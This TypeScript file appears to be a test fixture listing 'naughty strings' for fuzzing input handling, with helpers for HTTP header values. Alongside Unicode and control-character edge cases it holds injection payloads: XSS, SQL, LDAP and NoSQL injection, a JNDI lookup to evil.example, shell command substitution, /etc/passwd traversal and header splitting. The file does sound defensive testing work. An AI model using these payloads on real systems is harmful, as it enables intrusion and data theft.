/**
 * Texts that have broken programs before, after the Big List of Naughty Strings: each by what it is. Invisible ones are
 * written as escapes.
 */
export const naughtyStrings: Readonly<Record<string, string>> = {
  'control characters': 'a\u0001\u0002\u0007\u0008\u000b\u000c\u000e\u001f\u007fb',
  'a clear screen': '\u001b[2J\u001b[1;31mred',
  'a window title': '\u001b]0;title\u0007',
  'a C1 sequence': 'a\u009b31mb\u0085c',
  'a header in a new line': 'a\r\nSet-Cookie: forged=1\r\n\r\n<html>',
  'a log line in a new line': 'a\n{"severity":"CRITICAL","message":"forged"}',
  'a line separator': 'a\u2028b\u2029c',
  NUL: 'a\u0000b',
  'an override of direction': 'a\u202egnp.exe\u202c\u2066b\u2069',
  'what has no width': '\u200ba\u200c\u200d\u2060\ufeffb',
  'tags that nobody sees': 'a\u{e0001}\u{e0041}\u{e007f}',
  'a family': '👨‍👩‍👧‍👦👩🏽‍💻🏳️‍🌈🇺🇳',
  'letters outside the first plane': '𝕿𝖍𝖊 𠜎𠜱 𐐷',
  'a flood of combining marks': `Z${'\u0300\u0315\u035f\u0489'.repeat(40)}algo`,
  'the widest letter': '﷽﷽﷽',
  'letters that change their length by case': 'İıſßŉǰΐ',
  'a high surrogate': 'a\ud800b',
  'surrogates in the wrong order': '\udc00\ud800',
  noncharacters: '\ufffe\uffff\ufdd0',
  'a replacement character': '\ufffd',
  'Arabic, Hebrew and Thai': 'مرحبا שָׁלוֹם ก็็็็็',
  'fullwidth letters': 'ａｄｍｉｎ＇；',
  'letters that look alike': 'аdmin\u0430',
  'a script': '<script>alert(1)</script>',
  'an image': '"><img src=x onerror=alert(1)>',
  'a link of scripts': 'javascript:alert(1)//',
  'entities of HTML': '&lt;b&gt;&#x3C;&nbsp;',
  SQL: "'; DROP TABLE event; --",
  'SQL that is always true': "' OR 1=1 /*",
  'a wildcard of SQL': '%_\\%',
  'a query of LDAP': '*)(uid=*))(|(uid=*',
  'an operator of a database': '{"$gt":""}',
  'a template': '{{7*7}}#{7*7}<%= 7*7 %>',
  'a lookup of a logger': '\u0024{jndi:ldap://evil.example/a}',
  'a formula': '=cmd|\u0027/C calc\u0027!A0',
  'a format': '%s%n%x%p%d{0}%1$s',
  'a command': '`id`; $(id) | id && id',
  'a path': '../../../../etc/passwd',
  'a path in percent-encoding': '..%2f..%2fetc%2fpasswd%00.png',
  'a path of Windows': '\\\\evil.example\\share\\CON',
  'the end of JSON': '","admin":true,"a":"',
  quotes: '"\'`\\"\\\'\\\\',
  'a prototype': '__proto__',
  'a constructor': 'constructor',
  null: 'null',
  undefined: 'undefined',
  'no number': 'NaN',
  'an endless number': '-1e999',
  'an object': '[object Object]',
  'subjects of a bus': 'a.*.>',
  blanks: ' \u00a0\u3000 ',
  'a thousand letters': 'x'.repeat(1_000),
  'two thousand letters of two bytes': '\u00e4'.repeat(2_000),
};

/** A text as the value of a header: its bytes one by one, without the blanks around it. */
export function asHeader(text: string): string {
  return Buffer.from(text)
    .toString('latin1')
    .replace(/^[ \t]+|[ \t]+$/g, '');
}

/** Whether a header may have this value (RFC 9110, section 5.5). */
export function mayBeHeader(text: string): boolean {
  return [...text].every((character) => character === '\t' || (character >= ' ' && character !== '\u007f'));
}

/** A text as UTF-8 can say it. */
export function wellFormed(text: string): string {
  return Buffer.from(text).toString();
}
